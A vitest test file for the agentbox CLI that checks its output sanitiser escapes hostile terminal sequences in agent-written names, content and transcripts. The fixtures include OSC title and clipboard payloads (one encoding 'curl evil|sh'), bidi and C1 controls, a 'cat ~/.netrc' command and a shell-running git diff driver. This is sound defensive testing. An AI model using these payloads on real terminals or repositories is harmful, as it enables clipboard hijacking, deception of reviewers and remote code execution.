import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../src/cli/run.js';
import { type CommandContext, memoryIo } from '../../src/context.js';
import { EventLog } from '../../src/ledger/events.js';
import { createRun, ensureLedger, openLedger, type RunHandle, updateState } from '../../src/ledger/index.js';
import { printSummary } from '../../src/present/print.js';
import { GIT_ENV, gitRepo, type TestRepo, tempDir } from '../helpers/git-repo.js';
import { makeGroup } from './fixtures/group.js';
import { ENVELOPE } from './fixtures/ledger.js';

/*
 * Issue 37 items 5 and 7, "one sanitiser everywhere": a hostile agent's file name, file content,
 * task, report, tool calls and nested repository, walked through every command that prints them
 * to a terminal — `diff` on a terminal (--no-pager, a pass-through pager, --stat, --name-only,
 * --color=always piped), `merge`'s summary, prompt and conflict error, `show`, `show
 * --transcript`, `status`, `watch` and the run's end summary. The bytes each prints hold no escape
 * sequence but colours (SGR), no BEL, no C1 control and no bidi override; a colour sequence in a
 * file never passes as one; names are shown escaped, never stripped.
 */

const ESC = '\x1b';
const BEL = '\x07';
const TITLE = `${ESC}]0;PWNED-TITLE${BEL}`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`;
const CLEAR = `${ESC}[2J${ESC}[1;1H`;
const C1 = '\u009b3;3H\u009d2;C1-TITLE\u009c';
const BIDI = '\u202e';
/** Colours a file holds: red looks like git's own; conceal git never writes unless told. */
const RED = `${ESC}[31m`;
const CONCEAL = `${ESC}[8m`;
const HOSTILE = `${CLIPBOARD}${TITLE}${CLEAR}${C1}${BIDI}${RED}${CONCEAL}`;
/** A file name with a title change, a colour, a bidi override and a C1 control in it. */
const NAME = `ev${TITLE}${RED}il${BIDI}\u0085.txt`;
const NAME_SHOWN = 'ev\\x1b]0;PWNED-TITLE\\x07\\x1b[31mil\\u202e\\x85.txt';
const WORKFLOW = `.github/workflows/ci${TITLE}.yml`;
const NESTED = `vendor/lib${TITLE}`;
const BIG = `core${TITLE}`;
const BIG_SHOWN = '"core\\x1b]0;PWNED-TITLE\\x07"  (60.0 MiB: over the 50.0 MiB a file may have)';

/** What must never reach the terminal: any control but line ends and tabs, outside a colour. */
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const SGR = /\x1b\[[0-9;]*m/g;
/** The text without its colours. */
const uncoloured = (text: string) => text.replace(SGR, '');

function expectInert(out: string, what: string): void {
  const outside = out.replace(SGR, '');
  const bad = outside.search(UNSAFE);
  expect.soft(bad, `${what}: ${JSON.stringify(outside.slice(Math.max(0, bad - 60), bad + 20))}`).toBe(-1);
  // A colour from a file is shown, never obeyed: nothing agentbox or git prints conceals text.
  expect.soft(out, what).not.toContain(CONCEAL);
}

let repo: TestRepo;
let handle: RunHandle;
let id: string;
let marks: string;
let groupId: string;

/** A terminal (isTTY) or a pipe, and the person's pager. */
function ctxOf(options: { isTTY: boolean; pager?: string; answers?: string[] }): {
  ctx: CommandContext;
  io: ReturnType<typeof memoryIo>;
} {
  const io = memoryIo({ isTTY: options.isTTY, ...(options.answers ? { answers: options.answers } : {}) });
  const env = { ...process.env, ...GIT_ENV, GIT_PAGER: options.pager ?? 'cat' };
  return { ctx: { cwd: repo.dir, env, io }, io };
}

async function agentbox(argv: string[], options: Parameters<typeof ctxOf>[0]) {
  const { ctx, io } = ctxOf(options);
  const code = await run(argv, ctx);
  return { code, out: io.stdout, err: io.stderr };
}

beforeAll(async () => {
  repo = gitRepo({ files: { 'a.txt': 'a\n', [WORKFLOW.replace(TITLE, '')]: 'on: push\n' } });
  marks = tempDir('agentbox-pager-');
  const base = repo.git('rev-parse', 'HEAD').trim();
  // The agent's change, as a fix run's end exports it: a hostile name and content, a workflow.
  repo.write('a.txt', `a\nb ${HOSTILE}\n`);
  repo.write(NAME, `line ${HOSTILE}\n`);
  repo.write(WORKFLOW, 'on: push\n');
  repo.git('add', '-A');
  const patch = repo.git('diff', '--cached', '--binary', base);
  repo.git('reset', '-q', '--hard');
  ensureLedger(repo.dir);
  const ledger = openLedger(repo.dir);
  handle = await createRun(ledger, {
    type: 'fix',
    task: `fix it ${HOSTILE} now`,
    envelope: ENVELOPE,
    repoShaStart: base,
  });
  id = handle.meta.run_id;
  fs.writeFileSync(path.join(handle.dir, 'changes.patch'), patch);
  fs.mkdirSync(path.join(handle.dir, 'artifacts'));
  fs.writeFileSync(path.join(handle.dir, 'artifacts', `notes${TITLE}.md`), 'x\n');
  fs.writeFileSync(path.join(handle.dir, 'report.md'), `# Report\n\nREPORT-START ${HOSTILE} REPORT-END\n`);
  const bash = { type: 'tool_use', id: 't1', name: 'Bash', input: { command: `echo '${HOSTILE}'` } };
  const write = { type: 'tool_use', id: 't2', name: 'Write', input: { file_path: NAME, content: HOSTILE } };
  const said = { type: 'text', text: `SAID ${HOSTILE}` };
  fs.writeFileSync(
    path.join(handle.dir, 'raw', 'stream.jsonl'),
    `${[bash, write, said].map((c) => JSON.stringify({ type: 'assistant', message: { content: [c] } })).join('\n')}\n`,
  );
  const log = new EventLog(handle.dir);
  log.append({ event: 'nested_git', path: NESTED, kind: 'folder', moved_to: 'raw/nested-git/1.git' });
  // A file too large for the patch, left out of it by the run's end (src/git/too-large.ts).
  log.append({ event: 'files_left_out', files: [{ path: BIG, bytes: 60 * 2 ** 20, why: 'file' }], more: 0 });
  log.append({ event: 'refused', source: 'sandbox', tool: 'Bash', reason: `cat ~/.netrc ${HOSTILE}` });
  await updateState(ledger, handle, { status: 'REVIEW', ended_at: new Date().toISOString() });
  // Best of 2 with the same change, a hostile task and model name.
  const made = await makeGroup(
    ledger,
    [
      { status: 'REVIEW', verified: true, patch },
      { status: 'FAILED', verified: false, patch },
    ],
    { task: `group ${HOSTILE} task`, models: [`opus${TITLE}`, 'sonnet'], sha: base },
  );
  groupId = made.group.meta.group_id;
  // A repository's settings that need trust, with the sequences in a hook's command.
  repo.write(
    '.claude/settings.json',
    JSON.stringify({
      hooks: { SessionStart: [{ hooks: [{ type: 'command', command: `echo ${HOSTILE}` }] }] },
    }),
  );
});

describe('agentbox diff runs no diff driver or textconv of the person’s on the run’s files', () => {
  it.each([
    [true, 'a terminal'],
    [false, 'a pipe'],
  ])('on %s (%s)', async (isTTY) => {
    // The person's git defines a textconv and an external diff; the main tree's attributes (the
    // agent's, after a merge) send the run's files to them: agentbox diff shows the change as git
    // stores it, and neither program runs.
    const config = path.join(marks, 'gitconfig');
    const ran = path.join(marks, `driver-${isTTY}`);
    fs.writeFileSync(
      config,
      `[diff "evil"]\n\ttextconv = sh -c 'touch ${ran}.textconv; cat "$1"' -\n\tcommand = sh -c 'touch ${ran}.command' -\n`,
    );
    repo.write('.gitattributes', '*.txt diff=evil\n');
    try {
      const io = memoryIo({ isTTY });
      const env = { ...process.env, ...GIT_ENV, GIT_PAGER: 'cat', GIT_CONFIG_GLOBAL: config };
      expect(await run(['diff', id, '--no-pager'], { cwd: repo.dir, env, io }), io.stderr).toBe(0);
      expect(uncoloured(io.stdout)).toContain('+line ');
      expect(fs.existsSync(`${ran}.textconv`)).toBe(false);
      expect(fs.existsSync(`${ran}.command`)).toBe(false);
    } finally {
      fs.rmSync(path.join(repo.dir, '.gitattributes'));
    }
  });
});

describe('text an agent wrote, through every command that prints it (in-process, real git)', () => {
  it('diff --no-pager on a terminal: the content shown escaped, git’s colours kept', async () => {
    const r = await agentbox(['diff', id, '--no-pager'], { isTTY: true });
    expect(r.code, r.err).toBe(0);
    expectInert(r.out, 'diff --no-pager');
    expect(uncoloured(r.out)).toContain(`+line \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b]0;PWNED-TITLE\\x07`);
    expect(r.out).toContain('\\x1b[31m\\x1b[8m');
    // git's colours: bold headers, green additions; no red, as nothing is removed but one line.
    expect(r.out).toContain(`${ESC}[32m+`);
    expect(r.out).toContain(`${ESC}[1mdiff --git`);
    expect(r.out).not.toContain(RED); // the file's red is text: git colours no removed line here
  });

  it('diff through a pager that passes bytes through (GIT_PAGER="cat > file"): the pager gets safe text', async () => {
    const paged = path.join(marks, 'paged.txt');
    const r = await agentbox(['diff', id], { isTTY: true, pager: `cat > ${paged}` });
    expect(r.code, r.err).toBe(0);
    const text = fs.readFileSync(paged, 'utf8');
    expectInert(text, 'diff through the pager');
    expect(uncoloured(text)).toContain('+line \\x1b]52;c;');
    expect(text).toContain(`${ESC}[32m+`);
  });

  it.each([
    ['--stat', ['--stat', '--no-pager']],
    ['--name-only', ['--name-only', '--no-pager']],
    ['--color=never', ['--color=never', '--no-pager']],
  ])('diff %s on a terminal', async (_, flags) => {
    const r = await agentbox(['diff', id, ...flags], { isTTY: true });
    expect(r.code, r.err).toBe(0);
    expectInert(r.out, `diff ${flags.join(' ')}`);
    // git quotes a name itself where it can (\033), and the sanitiser shows what git does not.
    expect(r.out).toMatch(/(\\033|\\x1b)\]0;PWNED-TITLE/);
  });

  it('diff --color=always piped (for less -R): safe text; plain piped: the patch byte for byte', async () => {
    const coloured = await agentbox(['diff', id, '--color=always'], { isTTY: false });
    expectInert(coloured.out, 'diff --color=always | less -R');
    expect(coloured.out).toContain(`${ESC}[32m+`);
    const piped = await agentbox(['diff', id], { isTTY: false });
    expect(piped.out).toContain(`+line ${HOSTILE}\n`); // a patch still applies
  });

  it('merge: the summary names files escaped ("create mode"), the nested repository is named; d shows the diff safely', async () => {
    const paged = path.join(marks, 'merge-paged.txt');
    const r = await agentbox(['merge', id], { isTTY: true, pager: `cat > ${paged}`, answers: ['d', 'n'] });
    expect(r.code, r.err).toBe(1);
    expectInert(r.out, 'merge prompt');
    expect(r.out).toContain(`create mode 100644 "${NAME_SHOWN}"`);
    expect(r.out).toContain(`create mode 100644 "${WORKFLOW.replace(TITLE, '\\x1b]0;PWNED-TITLE\\x07')}"`);
    expect(r.out).toMatch(
      /nested repositories, never followed, left out of the patch \(1\)\n {2}"vendor\/lib\\x1b\]0;PWNED-TITLE\\x07\/"/,
    );
    expect(r.out).toContain(
      `files too large for the patch, left out of it (1): they stay in the worktree\n  ${BIG_SHOWN}`,
    );
    expect(r.out).toContain('".github/workflows/ci\\x1b]0;PWNED-TITLE\\x07.yml"');
    expectInert(fs.readFileSync(paged, 'utf8'), 'merge: d (the diff)');
    expect(r.out).toContain('Nothing changed.');
  });

  it('merge --yes: a conflict’s error names the file escaped; then the merge itself', async () => {
    repo.write(NAME, 'mine\n');
    const conflict = await agentbox(['merge', id, '--yes', '--allow-sensitive'], { isTTY: true });
    expect(conflict.code).not.toBe(0);
    expect(conflict.err).toContain('do not apply');
    expect(conflict.err).toContain(`"${NAME_SHOWN}"`);
    expectInert(conflict.err, 'merge conflict error');
    fs.rmSync(path.join(repo.dir, NAME));
    const merged = await agentbox(['merge', id, '--yes', '--allow-sensitive'], { isTTY: true });
    expect(merged.code, merged.err).toBe(0);
    expectInert(merged.out, 'merge --yes');
    expect(merged.out).toContain(`create mode 100644 "${NAME_SHOWN}"`);
    expect(merged.out).toContain('"vendor/lib\\x1b]0;PWNED-TITLE\\x07/"');
    expect(fs.readFileSync(path.join(repo.dir, NAME), 'utf8')).toBe(`line ${HOSTILE}\n`);
  });

  it.each([
    ['show <group> (the ranking)', ['show', 'GROUP']],
    ['diff <group> --no-pager', ['diff', 'GROUP', '--no-pager']],
    ['status --all', ['status', '--all']],
    ['trust (answered no)', ['trust']],
    ['show', ['show', 'ID']],
    ['show --transcript', ['show', 'ID', '--transcript', '--no-pager']],
    ['status', ['status']],
    ['watch', ['watch', 'ID']],
  ])('%s', async (what, argv) => {
    const r = await agentbox(
      argv.map((a) => (a === 'ID' ? id : a === 'GROUP' ? groupId : a)),
      { isTTY: true, answers: ['n'] },
    );
    expect(r.out.length, what).toBeGreaterThan(0);
    expectInert(r.out, what);
    expectInert(r.err, `${what} (stderr)`);
    // The agent's Write names the file as it is (watch, the transcript).
    if (what === 'watch' || what === 'show --transcript') expect(r.out).toContain(`"${NAME_SHOWN}"`);
    if (what === 'show') {
      expect(r.out).toContain('REPORT-START');
      expect(r.out).toContain('"artifacts/notes\\x1b]0;PWNED-TITLE\\x07.md"');
      expect(r.out).toContain('"vendor/lib\\x1b]0;PWNED-TITLE\\x07/"');
      expect(r.out).toContain(BIG_SHOWN);
      expect(r.out).toContain(`"${WORKFLOW.replace(TITLE, '\\x1b]0;PWNED-TITLE\\x07')}"`);
    }
  });

  it('the run’s end summary: the diffstat exact, the nested repository named', () => {
    const io = memoryIo({ isTTY: true });
    const stat = ` "ev\\033]0;PWNED-TITLE\\007" | 1 +\n create mode 100644 ${NAME}\n`;
    printSummary(
      io,
      handle.dir,
      repo.dir,
      {
        name: handle.name,
        status: 'REVIEW',
        failure: null,
        files: ['changes.patch', 'report.md', `artifacts/notes${TITLE}.md`],
        changes: {
          files: [{ path: NAME, status: 'added' }] as never,
          stat,
          leftOut: [{ path: BIG, bytes: 60 * 2 ** 20, why: 'file' }],
        },
        result: `done ${HOSTILE}`,
        toolCalls: 2,
        denials: [],
        durationMs: 1000,
        resultCommit: null,
        nested: [{ path: NESTED, kind: 'folder', moved_to: 'raw/nested-git/1.git' }],
      },
      false,
    );
    expectInert(io.stdout, 'summary');
    expect(io.stdout).toContain(`create mode 100644 ${NAME_SHOWN}`);
    expect(io.stdout).toContain('"vendor/lib\\x1b]0;PWNED-TITLE\\x07/"');
    expect(io.stdout).toContain(BIG_SHOWN);
  });
});
